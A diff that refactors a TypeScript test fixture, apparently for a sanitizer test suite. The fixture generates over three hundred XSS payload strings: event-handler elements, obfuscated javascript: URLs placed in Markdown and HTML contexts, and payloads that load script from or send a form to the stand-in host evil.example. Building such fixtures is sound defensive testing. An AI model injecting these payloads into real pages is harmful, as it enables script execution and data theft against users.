@@ -1,17 +1,37 @@
-/** Texts that try to run a script where they are shown: every one of them calls `hit()` or `alert()`. */
-const EVENTS = [
-  ...["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart"],
-  ...["onpointerenter", "onbeforetoggle", "onscrollend"],
+/**
+ * Texts that try to run a script where they are shown (XSS): each of them calls `hit()` or
+ * `alert()`.
+ */
+const EVENT_HANDLERS = [
+  "onload",
+  "onerror",
+  "onclick",
+  "onfocus",
+  "onmouseover",
+  "ontoggle",
+  "onanimationstart",
+  "onpointerenter",
+  "onbeforetoggle",
+  "onscrollend",
 ];
 
-/** Elements that run a handler by themselves, or at a touch. */
+/** Elements with handlers that run by themselves, or on interaction. */
 const ELEMENTS = [
-  ...["img src=x", "svg", "body", "video src=x", "audio src=x autoplay", "details open"],
-  ...["input autofocus", "marquee", "iframe", "object data=x", "a href=# autofocus tabindex=1"],
+  "img src=x",
+  "svg",
+  "body",
+  "video src=x",
+  "audio src=x autoplay",
+  "details open",
+  "input autofocus",
+  "marquee",
+  "iframe",
+  "object data=x",
+  "a href=# autofocus tabindex=1",
 ];
 
-/** Addresses that are scripts, and ways of spelling them. */
-const ADDRESSES = [
+/** Script URLs, and ways to obfuscate them. */
+const SCRIPT_URLS = [
   "javascript:hit()",
   "JaVaScRiPt:hit()",
   " javascript:hit()",
@@ -35,8 +55,8 @@ const ADDRESSES = [
   "\\\\evil.example\\hit.js",
 ];
 
-/** Ways of putting an address into Markdown or HTML. */
-const PLACES: ((address: string) => string)[] = [
+/** Ways to use a URL in Markdown or HTML. */
+const CONTEXTS: ((address: string) => string)[] = [
   (address) => `[x](${address})`,
   (address) => `[x](<${address}>)`,
   (address) => `![x](${address})`,
@@ -45,7 +65,7 @@ const PLACES: ((address: string) => string)[] = [
   (address) => `<a href="${address}">x</a>`,
 ];
 
-const OTHERS = [
+const OTHER_PAYLOADS = [
   "<script>hit()</script>",
   "<ScRiPt>hit()</sCrIpT>",
   "<script src=//evil.example/hit.js></script>",
@@ -116,11 +136,11 @@ const OTHERS = [
   "<input id=comment-form name=action><form id=comment-reactions action=//evil.example>",
 ];
 
-/** More than three hundred, each once. */
+/** More than three hundred, without duplicates. */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...new Set([
-    ...OTHERS,
-    ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=hit()>x`)),
-    ...ADDRESSES.flatMap((address) => PLACES.map((put) => put(address))),
+    ...OTHER_PAYLOADS,
+    ...ELEMENTS.flatMap((element) => EVENT_HANDLERS.map((event) => `<${element} ${event}=hit()>x`)),
+    ...SCRIPT_URLS.flatMap((address) => CONTEXTS.map((insert) => insert(address))),
   ]),
 ];
